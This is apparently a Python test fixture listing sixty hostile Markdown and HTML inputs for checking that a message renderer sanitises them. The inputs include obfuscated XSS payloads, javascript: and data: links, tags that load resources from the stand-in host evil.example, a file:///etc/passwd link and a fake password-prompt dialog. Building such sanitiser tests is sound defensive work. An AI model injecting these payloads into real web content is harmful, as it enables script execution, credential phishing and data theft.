"""Sixty texts that want to run, fetch, lead away or look like something else.

Where one succeeds, it sets `pwned`, opens a window, asks `evil.example`, or leaves an element behind that a message
must not hold.
"""

_RUN = "window.pwned=1"
_EVIL = "https://evil.example"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<script src='{_EVIL}/a.js'></script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f"text <script type=module>{_RUN}</script> text",
    f"</p><script>{_RUN}</script><p>",
    f"```\n</code></pre><script>{_RUN}</script>\n```",
    f"`</code><script>{_RUN}</script>`",
    f"| a |\n|---|\n| <script>{_RUN}</script> |",
    f"> <script>{_RUN}</script>",
    f"- <script>{_RUN}</script>",
    f"<!-- --><script>{_RUN}</script><!-- -->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\<script\\>{_RUN}\\</script\\>",
]

HANDLERS = [
    f"<img src=x onerror={_RUN}>",
    f"<img src={_EVIL}/p.png onload={_RUN}>",
    f'<img src="x` `<script>{_RUN}</script>"` `>',
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>open</summary></details>",
    f"<video autoplay onplay={_RUN}><source src=x onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<div style='animation:x 1s' onanimationstart={_RUN}>move</div>",
    f"<p onmouseover={_RUN} style='position:fixed;inset:0'>all over the page</p>",
    f"<custom-part onfocus={_RUN} tabindex=1 autofocus>x</custom-part>",
]

HOLDERS = [
    f"<iframe src='{_EVIL}/'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='{_EVIL}/a.swf'></object>",
    f"<embed src='{_EVIL}/a.swf'>",
    f"<form action='{_EVIL}/'><button>Send</button></form>",
    f"<base href='{_EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}/'>",
    f"<link rel=stylesheet href='{_EVIL}/a.css'>",
    f"<style>@import url({_EVIL}/a.css); * {{ background: url({_EVIL}/b.png) }}</style>",
    "<dialog open>Your session has ended. <input placeholder='Password'></dialog>",
    f"<template><script>{_RUN}</script></template>",
    "<textarea>left open",
]

LINKS = [
    f"[run](javascript:{_RUN})",
    f"[run](JaVaScRiPt:{_RUN})",
    f"[run](java\tscript:{_RUN})",
    f"[run](&#106;avascript:{_RUN})",
    f"[run](%6Aavascript:{_RUN})",
    f"[run](<\x01javascript:{_RUN}>)".replace("\x01", "\u2028"),
    f"[run](data:text/html,<script>{_RUN}</script>)",
    f"[run](vbscript:{_RUN})",
    "[read](file:///etc/passwd)",
    "[go](//evil.example/path)",
    "[log out](/logout)",
    f"[a]: javascript:{_RUN}\n\n[a]",
    f"<javascript:{_RUN}>",
    f'[x]({_EVIL} "\\" onmouseover={_RUN} \\"")',
    f"[https://molecule.example/login]({_EVIL}/login)",
    f"[![picture](x)](javascript:{_RUN})",
]

PICTURES = [
    f"![picture]({_EVIL}/p.png)",
    f"![run](javascript:{_RUN})",
    f"![picture](data:image/svg+xml,<svg onload={_RUN}>)",
    f"![a]({_EVIL}/p.png 'x\" onerror={_RUN}')",
]

TEXTS = [*SCRIPTS, *HANDLERS, *HOLDERS, *LINKS, *PICTURES]
